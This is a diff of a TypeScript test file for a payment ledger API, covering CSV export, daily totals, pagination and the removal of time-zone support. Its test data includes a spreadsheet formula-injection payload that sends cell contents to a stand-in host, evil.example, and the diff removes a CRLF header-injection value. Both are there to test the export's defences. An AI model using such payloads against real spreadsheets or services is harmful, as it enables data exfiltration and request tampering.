@@ -3,9 +3,8 @@ import { describe, expect, test } from 'vitest';
 import type { BookEntry } from '../../reports/ledger.ts';
 import { hashOf, newCapability, newId } from '../../core/ids.ts';
 import { newMerchantKey, scopes, type Scope } from '../../access/api-keys.ts';
-import { coins, says, scriptedProvider, pollResult } from '../../testing/scripted-gateway.ts';
+import { coins, says, scriptedProvider } from '../../testing/scripted-gateway.ts';
 import { NO_REQUEST } from '../../access/request-context.ts';
-import { SqlKeys } from '../../store/keys.ts';
 import { startWorkbench, type Workbench } from '../../testing/workbench.ts';
 
 const minute = 60_000;
@@ -40,7 +39,7 @@ async function whole(bench: Workbench, path: string, limit = 100): Promise<reado
 /** Writes lines into the ledger of a checkout, as a change of it would. */
 async function enter(bench: Workbench, lines: readonly Partial<BookEntry>[]): Promise<void> {
   const { id: checkoutId } = await bench.open();
-  const { store } = bench.parts;
+  const { checkouts: store } = bench.parts;
   await store.change(checkoutId, (before) => ({
     checkout: { ...before, version: before.version + 1 },
     events: [],
@@ -104,7 +103,7 @@ const asCells = ({ quote, hash, reverses, ...entry }: Row): Row => {
   };
 };
 
-/** Exact, and without the code that is judged: 30 decimals in one whole number. */
+/** Exact, and without the code under test: 30 decimals in one whole number. */
 function scaled(decimal: string): bigint {
   const [, sign = '', integer = '0', fraction = ''] = /^(-?)(\d+)(?:\.(\d+))?$/.exec(decimal) ?? [];
   const size = BigInt(integer + fraction.padEnd(30, '0'));
@@ -124,7 +123,7 @@ const cents = fc
     (value) =>
       `${value < 0 ? '-' : ''}${Math.trunc(Math.abs(value) / 100)}.${String(Math.abs(value) % 100).padStart(2, '0')}`,
   );
-/** What a hostile gateway, a careless one and a spreadsheet make of a text. */
+/** Texts that a hostile or careless gateway sends, or that a spreadsheet interprets. */
 const hostile = fc.constantFrom(
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
   '+1+1',
@@ -156,16 +155,14 @@ const entry = fc.record({
 });
 
 describe('the ledger', () => {
-  test('holds what a paid checkout brought, newest first, told apart by gateway, coin and time', async () => {
+  test('has the entries of a paid checkout, newest first, filtered by gateway, coin and time', async () => {
     const novapay = scriptedProvider('novapay');
     const bench = await startWorkbench([novapay]);
     const { id, token } = await bench.open();
     await bench.choose(token);
     const fees = [{ kind: 'network_fee', asset: 'TRX', amount: '13' }] as const;
-    novapay.script.observe = (payments) =>
-      pollResult(
-        payments.map((payment) => says(payment, { transactions: [coins('dep_1', '50.00', { fees })] })),
-      );
+    novapay.script.observe = (payment) =>
+      says(payment, { transactions: [coins('dep_1', '50.00', { fees })] });
     await bench.pass(minute);
     const rows = await whole(bench, '/v1/ledger');
     expect(rows.map(({ kind, asset, amount }) => [kind, asset, amount].join(' ')).toSorted(byText)).toEqual([
@@ -212,18 +209,13 @@ describe('the ledger', () => {
     for (const limit of [1, 3, 10, 25]) expect(await whole(bench, '/v1/ledger', limit)).toEqual(all);
   });
 
-  test('R71: as a table it holds the same, harmless in a spreadsheet, in the time of the place', async () => {
+  test('R71: as a table it holds the same, harmless in a spreadsheet', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     await fc.assert(
       fc.asyncProperty(fc.array(entry, { maxLength: 12 }), async (lines) => {
         await enter(bench, lines);
-        const { text } = await csv(bench, '?tz=Europe/Berlin');
-        const rows = readCsv(text);
-        const utc = (row: Row, name: string) => new Date(String(row[name])).toISOString();
-        const inUtc = rows.map((row) =>
-          Object.assign({}, row, { at: utc(row, 'at'), quoteAt: utc(row, 'quoteAt') }),
-        );
-        expect(inUtc).toEqual((await whole(bench, '/v1/ledger')).map(asCells));
+        const { text } = await csv(bench);
+        expect(readCsv(text)).toEqual((await whole(bench, '/v1/ledger')).map(asCells));
         // Nothing but a number begins like a formula.
         expect(text).not.toMatch(/(?:^|[,\n])"?(?:[=+@\t]|-(?!\d+(?:\.\d+)?[,\r]))/);
       }),
@@ -231,7 +223,7 @@ describe('the ledger', () => {
     );
   });
 
-  test('its table names its type and a file, and has a head where there is nothing', async () => {
+  test('its table has a content type and file name, and a head where it is empty', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     const { text, headers } = await csv(bench, '?from=2030-01-01&to=2030-02-01T00:00:00Z&asset=BTC');
     expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
@@ -243,21 +235,17 @@ describe('the ledger', () => {
     expect((await csv(bench)).headers.get('content-disposition')).toBe('attachment; filename="ledger.csv"');
   });
 
-  test('tells the time of the place on both sides of a change of the clocks', async () => {
+  test('begins a day at midnight in UTC', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     await enter(bench, [
-      { at: Date.UTC(2030, 2, 31, 0, 59, 59) },
+      { at: Date.UTC(2030, 2, 31) },
       { at: Date.UTC(2030, 2, 31, 1) },
-      { at: Date.UTC(2030, 2, 30, 22, 59, 59) },
+      { at: Date.UTC(2030, 2, 30, 23, 59, 59) },
     ]);
     const times = async (query: string) => readCsv((await csv(bench, query)).text).map(({ at }) => at);
-    expect(await times('?tz=Europe/Berlin')).toEqual([
-      '2030-03-31T03:00:00.000+02:00',
-      '2030-03-31T01:59:59.000+01:00',
-      '2030-03-30T23:59:59.000+01:00',
-    ]);
-    expect(await times('?tz=Europe/Berlin&from=2030-03-31')).toHaveLength(2);
-    expect(await times('?from=2030-03-31')).toEqual(['2030-03-31T01:00:00.000Z', '2030-03-31T00:59:59.000Z']);
+    expect(await times('?from=2030-03-31')).toEqual(['2030-03-31T01:00:00.000Z', '2030-03-31T00:00:00.000Z']);
+    expect(await times('?to=2030-03-31')).toEqual(['2030-03-30T23:59:59.000Z']);
+    expect(await times('?from=2030-03-31T02:00:00%2B02:00')).toHaveLength(2);
   });
 
   test('a table of thousands of lines is read part by part, as fast as it is taken', async () => {
@@ -273,7 +261,7 @@ describe('the ledger', () => {
     const reader = (response.body as ReadableStream<Uint8Array> | null)?.getReader();
     const textOf = async () => new TextDecoder().decode((await reader?.read())?.value);
     const linesIn = (text: string) => text.split('\r\n').length - 1;
-    // The head and a thousand lines: no more is read from the database before somebody takes it.
+    // The head and a thousand lines: no more is read from the database before the client takes them.
     expect(linesIn(await textOf())).toBe(1001);
     await enter(bench, [{ at: sample.at - 1, hash: 'written meanwhile' }]);
     let rest = '';
@@ -282,16 +270,24 @@ describe('the ledger', () => {
     expect(rest).toContain('written meanwhile');
   });
 
+  test.each(['/v1/ledger', '/v1/ledger.csv', '/v1/reports/daily', '/v1/reports/reconciliation'])(
+    '%s has no time zones: tz is refused by name',
+    async (path) => {
+      const bench = await startWorkbench([scriptedProvider('novapay')]);
+      expect(await bench.merchant('GET', `${path}?tz=UTC`)).toMatchObject({
+        status: 400,
+        body: { code: 'invalid_request', errors: [{ path: 'tz' }] },
+      });
+    },
+  );
+
   test.each([
     '/v1/ledger?limit=0',
     '/v1/ledger?cursor=x',
     '/v1/ledger?from=yesterday',
     '/v1/ledger?from=2030-02-31',
     '/v1/ledger?from=2030-01-02&to=2030-01-01',
-    '/v1/ledger?tz=Nowhere/City',
-    '/v1/ledger.csv?tz=%0d%0aX-Evil:1',
     '/v1/ledger.csv?from=1%22',
-    '/v1/reports/daily?tz=',
     '/v1/reports/daily?cursor=abc',
     `/v1/reports/daily?cursor=${Buffer.from('["9999-12-31","a","b","c"]').toString('base64url')}`,
     `/v1/reports/daily?cursor=${Buffer.from('["2030-13-01","a","b","c"]').toString('base64url')}`,
@@ -311,7 +307,7 @@ test('R17: books are read with reports:read alone, and the audit log with audit:
     const secret = `sk_test_${newCapability()}`;
     const wanted = { name: scope, owner: 'Ada', scopes: [scope], life: null };
     const { record } = newMerchantKey(wanted, 'test', bench.now());
-    await new SqlKeys(bench.parts.database).create(record, hashOf(secret), NO_REQUEST);
+    await bench.parts.database.keys.create(record, hashOf(secret), NO_REQUEST);
     return secret;
   };
   const books = ['/v1/ledger', '/v1/ledger.csv', '/v1/reports/daily', '/v1/reports/reconciliation'];
@@ -331,12 +327,8 @@ describe('daily totals', () => {
     const bench = await startWorkbench([novapay]);
     for (let count = 0; count < 3; count += 1) await bench.choose((await bench.open()).token);
     const fees = [{ kind: 'gateway_fee', asset: 'USDT', amount: '0.003' }] as const;
-    novapay.script.observe = (payments) =>
-      pollResult(
-        payments.map((payment) =>
-          says(payment, { transactions: [coins(payment.reference, '50.00', { fees })] }),
-        ),
-      );
+    novapay.script.observe = (payment) =>
+      says(payment, { transactions: [coins(payment.reference, '50.00', { fees })] });
     await bench.pass(minute);
     expect((await get(bench, '/v1/reports/daily')).data).toMatchObject([
       {
@@ -347,7 +339,7 @@ describe('daily totals', () => {
     ]);
   });
 
-  test('tell what a person saw and its gateway shows later as sent once', async () => {
+  test('count once what an operator entered and its gateway shows later', async () => {
     const novapay = scriptedProvider('novapay');
     const bench = await startWorkbench([novapay]);
     const { id, token } = await bench.open();
@@ -356,8 +348,7 @@ describe('daily totals', () => {
     const hash = 'ab'.repeat(32);
     const seen = { paymentId: payment?.id, amount: '50.00', hash, note: 'seen' };
     await bench.merchant('POST', `/v1/checkouts/${id}/settle`, seen);
-    novapay.script.observe = (payments) =>
-      pollResult(payments.map((each) => says(each, { transactions: [coins('dep_1', '50.00', { hash })] })));
+    novapay.script.observe = (each) => says(each, { transactions: [coins('dep_1', '50.00', { hash })] });
     await bench.pass(minute);
     expect((await get(bench, '/v1/reports/daily')).data).toMatchObject([
       {
@@ -369,7 +360,7 @@ describe('daily totals', () => {
     ]);
   });
 
-  test('tell gross, fees, net and money out, by day, gateway, asset and currency', async () => {
+  test('have gross, fees, net and money out, by day, gateway, asset and currency', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     await enter(bench, [
       { paymentId: 'pay_1' },
@@ -422,7 +413,7 @@ describe('daily totals', () => {
     ]);
   });
 
-  test('add up to the ledger, whatever happened, in every time zone and page size', async () => {
+  test('add up to the ledger, for any entries, in every page size', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     const kinds = {
       received: 'gross',
@@ -435,11 +426,10 @@ describe('daily totals', () => {
     await fc.assert(
       fc.asyncProperty(
         fc.array(entry, { maxLength: 20 }),
-        fc.constantFrom('UTC', 'Europe/Berlin', 'America/New_York', 'Pacific/Kiritimati'),
         fc.constantFrom(1, 4, 100),
-        async (lines, tz, limit) => {
+        async (lines, limit) => {
           await enter(bench, lines);
-          const days = await whole(bench, `/v1/reports/daily?from=2030-03-01&to=2030-05-01&tz=${tz}`, limit);
+          const days = await whole(bench, `/v1/reports/daily?from=2030-03-01&to=2030-05-01`, limit);
           const keys = days.map(({ date, provider, asset, currency }) =>
             [date, provider, asset, currency].join(),
           );
@@ -466,32 +456,28 @@ describe('daily totals', () => {
     );
   });
 
-  test('count a day from one midnight of the place to the next, an hour shorter in spring', async () => {
+  test('count a day from one midnight in UTC to the next', async () => {
     const bench = await startWorkbench([scriptedProvider('novapay')]);
     await enter(
       bench,
       Array.from({ length: 48 }, (_, hour) => ({ at: Date.UTC(2030, 2, 30, 12 + hour), amount: '1' })),
     );
-    const query = 'from=2030-03-31&to=2030-04-01&tz=Europe/Berlin';
+    const query = 'from=2030-03-31&to=2030-04-01';
     expect(await whole(bench, `/v1/reports/daily?${query}`)).toMatchObject([
-      { date: '2030-03-31', gross: { amount: '23' } },
+      { date: '2030-03-31', gross: { amount: '24' } },
     ]);
   });
 
-  test('come with what a person has to look at now, by where the money is', async () => {
+  test('come with the checkouts that an operator has to resolve, by gateway and asset', async () => {
     const novapay = scriptedProvider('novapay');
     const bench = await startWorkbench([novapay]);
     for (const paid of ['60.00', '70.00', '50.00']) {
       const { token } = await bench.open();
       await bench.choose(token);
-      novapay.script.observe = (payments) =>
-        pollResult(
-          payments.map((payment) =>
-            says(payment, {
-              transactions: payment.known.length > 0 ? [] : [coins(`dep_${paid}`, paid)],
-            }),
-          ),
-        );
+      novapay.script.observe = (payment) =>
+        says(payment, {
+          transactions: payment.known.length > 0 ? [] : [coins(`dep_${paid}`, paid)],
+        });
       await bench.pass(minute);
       delete novapay.script.observe;
     }
